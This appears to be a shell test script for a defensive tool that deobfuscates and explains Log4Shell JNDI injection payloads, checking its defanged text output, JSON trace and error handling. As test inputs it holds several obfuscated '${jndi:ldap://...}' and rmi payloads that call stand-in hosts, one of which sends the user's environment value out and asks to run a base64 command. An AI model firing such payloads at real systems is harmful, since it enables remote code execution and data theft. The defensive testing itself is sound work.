#!/usr/bin/env bash
# explain_basic.sh -- `defuse explain`: the step-by-step trace and the
# result for an obfuscated payload, as text (defanged: no live "${" or
# "://") and as JSON (payload, steps, findings; '$' as \u0024); payload
# from an argument, stdin and --file; exit 0 when explained (harmless or
# not), 2 for usage errors.
source "$(dirname "$0")/logs_lib.bash"
cd "$T"
P='%24%7B${lower:j}ndi:ldap://${env:USER}.evil.example:1389/Basic/Command/Base64/aWQ=%7D'
"$DEFUSE" explain "$P" > out.txt; expect_rc 0 $? "explain runs"
expect_nogrep '${' out.txt "text output has no live \${"
expect_nogrep '://' out.txt "text output has no live ://"
expect_grep "decode" out.txt "decoding step shown"
expect_grep "lower:j" out.txt "lower lookup step shown"
expect_grep "env:USER" out.txt "victim value shown"
expect_grep "ldap[:]//" out.txt "callback shown defanged"
expect_grep "jndi" out.txt "kind shown"

"$DEFUSE" explain --json "$P" > out.json; expect_rc 0 $? "explain --json"
expect_nogrep '$' out.json "JSON has no raw \$"
python3 - "$P" <<'PY' || fail "explain --json content"
import json, sys
o = json.load(open("out.json"))
assert o["payload"] == sys.argv[1], o["payload"]
steps = o["steps"]
assert steps and all(set(s) >= {"depth", "action", "input", "output", "note"} for s in steps), steps
acts = [s["action"] for s in steps]
assert "decode" in acts and "lookup" in acts and "jndi" in acts, acts
f = o["findings"][0]
assert f["kind"] == "jndi", f
assert f["callback"] == "ldap://${env:USER}.evil.example:1389/Basic/Command/Base64/aWQ=", f["callback"]
assert "percent" in f["layers"] and "lower" in f["techniques"], f
print("ok: JSON trace and finding")
PY

printf '%s\n' '${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://x.example/b}' > p.txt
"$DEFUSE" explain --json - < p.txt > a.json; expect_rc 0 $? "payload from stdin"
"$DEFUSE" explain --json --file=p.txt > b.json; expect_rc 0 $? "payload from --file"
python3 -c '
import json
for n in ("a.json", "b.json"):
    o = json.load(open(n))
    assert o["payload"].endswith("://x.example/b}"), o["payload"]   # trailing newline dropped
    assert o["findings"][0]["callback"] == "rmi://x.example/b", o["findings"]' \
  && ok "stdin and --file give the rmi callback" || fail "stdin/--file callback"

"$DEFUSE" explain 'Hello ${user.name}, your order is ready' > out.txt; expect_rc 0 $? "harmless template"
expect_grep "nothing" out.txt "says nothing would be fetched"
"$DEFUSE" explain --json '$${jndi:ldap://escaped.example/f}' > out.json
python3 -c '
import json; o = json.load(open("out.json"))
assert all(f["kind"] != "jndi" for f in o["findings"]), o["findings"]' \
  && ok "escaped \$\${jndi: is not a jndi lookup" || fail "escape"
# An inert payload (escaped, or inside a lookup log4j 2.14.1 does not have):
# the verdict says it would not fire and why, and no step after the
# result reads as something log4j does.
for P in '$${jndi:ldap://x.example/a}' '${base64:JHtqbmRpOmxkYXA6Ly9iNjQuYzIuZXhhbXBsZS9hfQ==}'; do
  "$DEFUSE" explain "$P" > out.txt; expect_rc 0 $? "explain inert"
  expect_nogrep 'log4j would resolve' out.txt "inert: no 'would resolve' verdict ($P)"
  expect_grep 'would not' out.txt "inert: says log4j would not request it ($P)"
  "$DEFUSE" explain --json "$P" > out.json
  python3 - <<'PY' && ok "inert: trace marks the evaluation log4j does not do" || fail "inert trace"
import json
acts = [s["action"] for s in json.load(open("out.json"))["steps"]]
r = acts.index("result")
assert "jndi" not in acts[:r], acts
assert "inert" in acts and acts.index("inert") < acts.index("jndi"), acts
PY
done
# Defanged input: read back with --defanged (the defanged form is
# reversible); without it, a note says the payload looks defanged.
"$DEFUSE" explain --json --defanged '$\{jndi:ldap[:]//$\{sys:user.name}[.]evil[.]example/a\[.]b\\x}' > out.json 2> err.txt
expect_rc 0 $? "explain --defanged"
python3 -c '
import json; f = json.load(open("out.json"))["findings"][0]
assert f["kind"] == "jndi" and f["callback"] == "ldap://${sys:user.name}.evil.example/a[.]b\\x", f' \
  && ok "--defanged reads the defanged form back exactly" || fail "--defanged"
"$DEFUSE" explain '$\{jndi:ldap[:]//evil[.]example/a}' > out.txt 2> err.txt
expect_grep "looks defanged" err.txt "a defanged payload is noticed"
"$DEFUSE" explain 2>/dev/null; expect_rc 2 $? "no payload"
"$DEFUSE" explain --file=/nonexistent/x 2> err.txt; expect_rc 2 $? "missing file"
expect_grep "/nonexistent/x" err.txt "missing file named"
"$DEFUSE" explain a b 2>/dev/null; expect_rc 2 $? "two payloads"
"$DEFUSE" explain --help > out.txt; expect_rc 0 $? "--help"
expect_grep "SYNOPSIS" out.txt "help text"
finish
